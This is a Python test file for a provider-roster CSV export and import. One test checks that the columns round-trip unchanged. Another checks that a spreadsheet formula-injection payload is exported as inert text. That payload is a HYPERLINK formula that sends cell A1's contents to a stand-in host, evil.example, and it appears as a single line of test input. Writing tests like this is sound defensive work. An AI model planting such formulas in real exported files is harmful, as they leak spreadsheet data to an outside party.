"""Roster export: the import's columns, and what it writes imports back unchanged."""

from providers.models import Specialty
from providers.roster_csv import COLUMNS, export_roster, import_roster
from referrals.services import Actor


def test_export_has_the_import_columns_and_reimports_unchanged(ana, ben, cigna):
    ana.credentials = "LCSW"
    ana.save()
    ana.insurance_networks.add(cigna)
    ana.specialties.set([Specialty.objects.create(name="Anxiety")])

    text = export_roster()

    lines = text.splitlines()
    assert lines[0] == ",".join(COLUMNS)
    assert lines[1].startswith(
        "Ana,Lee,ana.lee@example.com,'+12012230001,U0ANA,active,Aetna; Cigna,LCSW,Anxiety"
    )
    summary = import_roster(text, actor=Actor("t"))
    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 2)


def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text(ana):
    ana.bio = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    ana.save()

    text = export_roster()

    assert ",'=HYPERLINK(" in text.replace('"', "")  # shown as text, never run
    summary = import_roster(text, actor=Actor("t"))
    assert summary.unchanged == 1  # and the apostrophe comes off again on import
    ana.refresh_from_db()
    assert ana.bio.startswith("=HYPERLINK(")
